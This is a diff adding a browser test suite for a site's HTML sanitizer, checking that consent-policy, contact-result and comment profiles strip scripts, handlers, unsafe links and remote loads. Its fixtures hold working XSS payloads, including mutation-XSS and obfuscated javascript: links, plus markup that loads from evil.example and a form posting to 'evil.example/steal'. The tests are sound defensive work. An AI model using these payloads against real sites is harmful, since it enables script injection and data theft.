@@ -1,0 +1,219 @@
+/**
+ * The shared sanitizer (react-core/runtime/sanitize-html.ts) in real Chromium (its HTML parser;
+ * DOMPurify needs a real DOM, happy-dom's tree walking is not enough): each call's profile keeps
+ * what the README's "Untrusted content" section says and nothing else; attack strings leave no
+ * script, handler, style, image from another origin, form or unsafe link, and nothing runs or loads.
+ */
+import { expect } from 'chai';
+import { hasVisibleContent, sanitizedContainerChildren, sanitizeHtml, type SanitizeProfileName } from '../../react-core/runtime/sanitize-html';
+import { safeUrl } from '../../react-core/runtime/safe-url';
+import { wait } from './helpers';
+
+declare global {
+  interface Window {
+    sanitizerPwned?: number;
+  }
+}
+
+const ATTACKS = [
+  '<script>window.sanitizerPwned=1</script>',
+  '<img src=x onerror="window.sanitizerPwned=1">',
+  '<svg><script>window.sanitizerPwned=1</script></svg><svg onload="window.sanitizerPwned=1"></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.sanitizerPwned=1">',
+  '<noscript><p title="</noscript><img src=x onerror=window.sanitizerPwned=1>"></noscript>',
+  '<iframe srcdoc="<script>parent.sanitizerPwned=1</script>"></iframe>',
+  '<a href="&#x6A;avascript:window.sanitizerPwned=1">x</a><a href="java&#09;script:window.sanitizerPwned=1">y</a>',
+  '<p style="background:url(javascript:window.sanitizerPwned=1)" onmouseover="window.sanitizerPwned=1">t</p>',
+  '<object data="data:text/html,<script>parent.sanitizerPwned=1</script>"></object><embed src="x">',
+  '<form action="javascript:window.sanitizerPwned=1"><button>go</button></form>',
+  '<details open ontoggle="window.sanitizerPwned=1"><summary>s</summary></details>',
+  '<base href="javascript:/"><link rel="stylesheet" href="x.css"><meta http-equiv="refresh" content="0;url=javascript:x">',
+  '<template><img src=x onerror="window.sanitizerPwned=1"></template>',
+  '<table><tr><td onclick="window.sanitizerPwned=1" colspan="2">c</td></tr></table>',
+];
+
+/** Markup that would make the page request something from another origin, or navigate away. */
+const LOADS_AND_NAVIGATES =
+  '<div id="box"><p>Thanks</p><img src="https://evil.example/pixel.png" alt="">' +
+  '<p style="background:url(https://evil.example/style.png)">styled</p><style>p{background:url(https://evil.example/sheet.png)}</style>' +
+  '<picture><source srcset="https://evil.example/set.png"><img srcset="https://evil.example/set2.png 1x" alt=""></picture>' +
+  '<form action="https://evil.example/steal"><input name="card"><button>Continue</button></form>' +
+  '<video poster="https://evil.example/poster.png"></video><table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>' +
+  '<svg><image href="https://evil.example/svg.png"></image></svg><link rel="stylesheet" href="https://evil.example/x.css"></div>';
+
+function html(nodes: DocumentFragment | readonly Node[]): string {
+  const box = document.createElement('div');
+  box.append(...('childNodes' in nodes ? [...nodes.childNodes] : nodes));
+  return box.innerHTML;
+}
+
+const consent = (markup: string): string => html(sanitizeHtml(markup, 'consent-policy'));
+
+/** Inserts `nodes` into the page and returns the resource requests to evil.example that followed. */
+async function requestsToEvilAfterInserting(nodes: DocumentFragment | readonly Node[]): Promise<string[]> {
+  const box = document.createElement('div');
+  document.body.append(box);
+  try {
+    box.append(...('childNodes' in nodes ? [...nodes.childNodes] : nodes));
+    await wait(200);
+    return performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => name.includes('evil.example'));
+  } finally {
+    box.remove();
+  }
+}
+
+describe('sanitizer, every profile (Chromium)', () => {
+  for (const profile of ['consent-policy', 'contact-result', 'comment'] as SanitizeProfileName[]) {
+    it(`${profile}: attack strings leave no script, handler, style, embedded content or unsafe link, and run nothing`, async () => {
+      const box = document.createElement('div');
+      document.body.append(box);
+      try {
+        for (const attack of ATTACKS) box.append(sanitizeHtml(attack, profile));
+        await wait(200);
+        // A comment may show a same-origin avatar (`src=x` is one); the other profiles show no image.
+        const images = profile === 'comment' ? '' : 'img, ';
+        expect(box.querySelectorAll(`script, ${images}svg, math, iframe, object, embed, form, button, input, style, link, meta, base, template, details`).length).to.equal(0);
+        expect(box.querySelectorAll('[style], [onerror], [onclick], [onmouseover], [ontoggle], [onload]').length).to.equal(0);
+        expect([...box.querySelectorAll('a')].every((link) => !link.hasAttribute('href'))).to.equal(true);
+        expect(window.sanitizerPwned === undefined, 'nothing ran').to.equal(true);
+      } finally {
+        box.remove();
+      }
+    });
+
+    it(`${profile}: nothing from another origin is requested and no form survives`, async () => {
+      const markup = html(sanitizeHtml(LOADS_AND_NAVIGATES, profile));
+      expect(markup).to.not.contain('evil.example');
+      expect(markup).to.contain('Thanks');
+      expect(await requestsToEvilAfterInserting(sanitizeHtml(LOADS_AND_NAVIGATES, profile))).to.deep.equal([]);
+    });
+  }
+});
+
+describe('consent-policy profile: the documented allowlist', () => {
+  it('keeps the allowlisted elements and their text', () => {
+    const markup =
+      '<h2>Cookies</h2><p>We use <strong>few</strong> <em>cookies</em>.</p><ul><li>One</li></ul><ol><li>Two</li></ol>' +
+      '<h3>A</h3><h4>B</h4><table><caption>C</caption><thead><tr><th scope="col">Name</th></tr></thead><tbody><tr><td colspan="2">x</td></tr></tbody></table>';
+    expect(consent(markup)).to.equal(markup);
+  });
+
+  it('drops script and style elements with their content', () => {
+    expect(consent('<p>a</p><script>alert(1)</script><style>p{color:red}</style><p>b</p>')).to.equal('<p>a</p><p>b</p>');
+    expect(consent('<p>x<script src="https://evil.example/x.js"></script></p>')).to.equal('<p>x</p>');
+  });
+
+  it('drops event-handler attributes, style, class and id', () => {
+    expect(consent('<p onclick="alert(1)" style="color:red" class="c" id="i">t</p>')).to.equal('<p>t</p>');
+    expect(consent('<a href="/privacy" onmouseover="alert(1)" target="_blank">p</a>')).to.equal('<a href="/privacy">p</a>');
+  });
+
+  it('drops img with onerror, iframes, objects, embeds, svg, forms and templates', () => {
+    const markup =
+      '<img src=x onerror="alert(1)"><iframe title="x" srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object>' +
+      '<embed src="x"><math><mi>x</mi></math><form><input value="v"><button>b</button></form>' +
+      '<template><p>t</p></template><noscript><p>n</p></noscript><p>ok</p><svg><script>alert(1)</script></svg>';
+    expect(consent(markup)).to.equal('<p>ok</p>');
+  });
+
+  it('unwraps other elements, keeping their sanitized children', () => {
+    expect(consent('<div class="x"><h1>Title</h1><span>a <b>b</b></span><p>c</p></div>')).to.equal('Titlea b<p>c</p>');
+  });
+
+  it('removes javascript:, data: and vbscript: links, however they are disguised', () => {
+    for (const href of [
+      'javascript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      ' javascript:alert(1)',
+      'java\tscript:alert(1)',
+      'java&#x09;script:alert(1)',
+      '&#106;avascript:alert(1)',
+      'javascript&colon;alert(1)',
+      'data:text/html,<script>alert(1)</script>',
+      'vbscript:msgbox(1)',
+    ]) {
+      expect(consent(`<a href="${href}">x</a>`), href).to.equal('<a>x</a>');
+    }
+  });
+
+  it('keeps http, https, mailto and relative links', () => {
+    for (const href of ['https://example.com/p', 'http://example.com', 'mailto:privacy@example.com', '/privacy', 'privacy.html', '#cookies', '?a=1']) {
+      expect(consent(`<a href="${href}">x</a>`), href).to.equal(`<a href="${href}">x</a>`);
+    }
+  });
+
+  it('off-site links are not relative: a network-path link is written as the absolute address it resolves to', () => {
+    for (const href of ['//evil.example/x', '\\\\evil.example/x', '/\\evil.example/x']) {
+      expect(consent(`<a href="${href}">x</a>`), href).to.equal(`<a href="${location.protocol}//evil.example/x">x</a>`);
+    }
+  });
+
+  it('drops comments and bad table attribute values', () => {
+    expect(consent('<!-- c --><table><tbody><tr><td rowspan="2&quot; onclick=&quot;x">a</td></tr></tbody></table>')).to.equal(
+      '<table><tbody><tr><td>a</td></tr></tbody></table>',
+    );
+  });
+
+  it('says whether anything is left to show', () => {
+    expect(hasVisibleContent(sanitizeHtml('<script>x</script>  ', 'consent-policy'))).to.equal(false);
+    expect(hasVisibleContent(sanitizeHtml('text', 'consent-policy'))).to.equal(true);
+    expect(hasVisibleContent(sanitizeHtml('<p></p>', 'consent-policy'))).to.equal(true);
+  });
+
+  it('links are checked by the shared safe-URL check', () => {
+    for (const href of ['/a:b', 'a/b:c', 'HTTPS://x', 'javascript:x', '\u0001javascript:x', 'file:///etc/passwd']) {
+      const kept = consent(`<a href="${href}">x</a>`).includes('href=');
+      expect(kept, href).to.equal(safeUrl(href) !== null);
+    }
+  });
+});
+
+describe('contact-result profile (SPEC §7: the returned fragment replaces the container)', () => {
+  it('takes the children of the container with the id, as text-level markup with class and role', () => {
+    const nodes = sanitizedContainerChildren(
+      '<!doctype html><main><div id="other"><p>Wrong</p></div><div id="contact" class="pb-contact-result"><p role="status" class="ok" id="x" style="color:red">Thanks <a href="/next" target="_blank">next</a></p></div></main>',
+      'contact',
+      'contact-result',
+    );
+    expect(html(nodes!)).to.equal('<p role="status" class="ok">Thanks <a href="/next">next</a></p>');
+  });
+
+  it('is undefined when the answer has no such container', () => {
+    expect(sanitizedContainerChildren('<p>Thanks</p>', 'contact', 'contact-result')).to.equal(undefined);
+    expect(sanitizedContainerChildren('<p id="">x</p>', '', 'contact-result')).to.equal(undefined);
+  });
+
+  it('keeps no image, style, form, button or field of the answer', () => {
+    const nodes = sanitizedContainerChildren(LOADS_AND_NAVIGATES, 'box', 'contact-result')!;
+    const box = document.createElement('div');
+    box.append(...nodes);
+    expect(box.querySelectorAll('img, picture, form, input, button, select, textarea, style, [style], video, svg').length).to.equal(0);
+    expect(box.textContent).to.contain('Thanks');
+  });
+});
+
+describe('comment profile: the comment markup the site renders', () => {
+  const COMMENT =
+    '<li id="comment-7" class="comment depth-1"><article id="div-comment-7" class="comment-body">' +
+    '<footer class="comment-meta"><div class="comment-author vcard"><img alt="" src="/avatars/ann.png" class="avatar" width="32" height="32">' +
+    '<b class="fn"><a href="https://ann.example/" rel="external nofollow ugc" class="url">Ann</a></b> <span class="says">says:</span></div>' +
+    '<div class="comment-metadata"><time datetime="2026-01-01T10:00:00Z">1 January 2026</time></div></footer>' +
+    '<div class="comment-content"><p>Hello<br>world</p></div>' +
+    '<div class="reply"><a rel="nofollow" class="comment-reply-link" href="?replytocom=7#respond" data-commentid="7" data-postid="1" data-replyto="Reply to Ann" aria-label="Reply to Ann">Reply</a></div>' +
+    '</article></li>';
+
+  it('keeps the rendered comment as it is (ids, classes, time, same-origin avatar, reply link data)', () => {
+    expect(html(sanitizeHtml(COMMENT, 'comment'))).to.equal(COMMENT);
+  });
+
+  it('drops an avatar from another origin, styles and forms', () => {
+    const markup = html(
+      sanitizeHtml(
+        '<li id="comment-8"><img alt="" src="https://gravatar.example/a.png" class="avatar"><img alt="" src="//evil.example/b.png">' +
+          '<p style="background:url(/x.png)">Hi</p><form action="/wp-comments-post.php"><button>Post</button></form></li>',
+        'comment',
+      ),
+    );
+    expect(markup).to.equal('<li id="comment-8"><p>Hi</p></li>');
+  });
+});
